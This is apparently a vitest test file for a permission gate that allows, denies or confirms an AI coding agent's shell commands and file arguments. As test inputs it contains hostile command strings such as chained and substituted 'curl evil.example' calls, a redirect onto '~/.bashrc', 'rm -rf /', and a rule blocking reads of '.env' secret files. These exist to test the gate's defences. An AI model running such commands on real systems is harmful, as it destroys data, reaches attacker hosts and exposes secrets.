import { Either } from "effect"
import { describe, expect, it } from "vitest"
import * as Gate from "../../../src/kernel/gate/Gate.ts"
import type { Json } from "../../../src/values/Json.ts"

const gate = (rules: ReadonlyArray<Gate.GateRule>): Gate.GateConfig => ({ rules, default: "confirm" })

const decide = (rules: ReadonlyArray<Gate.GateRule>, args: Json | undefined) =>
  Gate.decide(gate(rules), { actuator: "claude-code/Bash", risk: undefined, ...(args === undefined ? {} : { args }) })

const TESTS: Gate.GateRule = { name: "tests", shell: ["npm test", "npm test *", "git status*"], decision: "allow" }
const DELETES: Gate.GateRule = { name: "deletes", shell: ["rm *"], decision: "deny" }

describe("a rule that allows shell commands", () => {
  it.each(["npm test", "git status --short && npm test -- a"])("allows %s", (command) => {
    expect(decide([TESTS], { command })).toMatchObject({ decision: "allow", rule: "tests" })
  })

  it.each([
    "npm test; curl evil.example",
    "npm test > ~/.bashrc",
    "npm test $(curl evil.example)",
    "git status `rm a`",
    "/tmp/npm test",
    "npm testing",
    "",
    "# npm test",
  ])("does not allow %s", (command) => {
    expect(decide([TESTS], { command }).rule).toBe("default")
  })

  it("allows nothing of which it does not know the command", () => {
    for (const args of [undefined, null, {}, { command: ["npm test"] }, { command: null }, "npm test", ["npm test"]]) {
      expect(decide([TESTS], args).decision).toBe("confirm")
    }
  })
})

describe("a rule that denies shell commands", () => {
  it.each([
    "rm -rf /",
    "/bin/rm a",
    "sudo /usr/bin/rm a",
    "ls && sudo rm a",
    "echo $(rm a)",
    "eval $X",
    "bash build.sh",
  ])("denies %s", (command) => {
    expect(decide([DELETES], { command })).toMatchObject({ decision: "deny", rule: "deletes" })
  })

  it("says that it cannot see what is run, and lets a redirection be", () => {
    expect(decide([DELETES], { command: "eval $X" }).reason).toContain("cannot see what would be run")
    expect(decide([DELETES], { command: "rm a" }).reason).not.toContain("cannot see")
    expect(decide([DELETES], { command: "echo a > b" }).rule).toBe("default")
  })

  it("denies where it is not told what is run, and not where a tool runs nothing", () => {
    expect(decide([DELETES], undefined).decision).toBe("deny")
    expect(decide([DELETES], { command: ["rm", "a"] }).decision).toBe("deny")
    expect(decide([DELETES], { file_path: "rm a" }).rule).toBe("default")
    expect(decide([DELETES], { command: "ls 'rm a'" }).rule).toBe("default")
  })
})

describe("a rule about arguments", () => {
  const SECRETS: Gate.GateRule = { name: "secrets", args: { file_path: "*/.env" }, decision: "deny" }
  const DOCS: Gate.GateRule = { name: "docs", args: { file_path: "/project/docs/*" }, decision: "allow" }

  it("is about those that fit", () => {
    expect(decide([SECRETS], { file_path: "/project/.env" }).rule).toBe("secrets")
    expect(decide([SECRETS], { file_path: "/project/a" }).rule).toBe("default")
    expect(decide([DOCS], { file_path: "/project/docs/a.md" }).decision).toBe("allow")
  })

  it("denies and does not allow what may hide the argument", () => {
    expect(decide([SECRETS], { file_path: ["/project/.env"] }).decision).toBe("deny")
    expect(decide([DOCS], { file_path: ["/project/docs/a"] }).decision).toBe("confirm")
    expect(decide([{ ...DOCS, args: { constructor: "*" } }], {}).decision).toBe("confirm")
  })

  it("is refused if it says nothing", () => {
    for (const wrong of [{ shell: [] }, { shell: "rm *" }, { shell: [""] }, { args: { file_path: 1 } }, { args: [] }]) {
      expect(Either.isLeft(Gate.decode({ rules: [{ name: "x", decision: "allow", ...wrong }] }))).toBe(true)
    }
  })

  it("does not make a later rule useless", () => {
    expect(Gate.warnings(gate([TESTS, { name: "all", decision: "deny" }]))).toEqual([])
  })
})
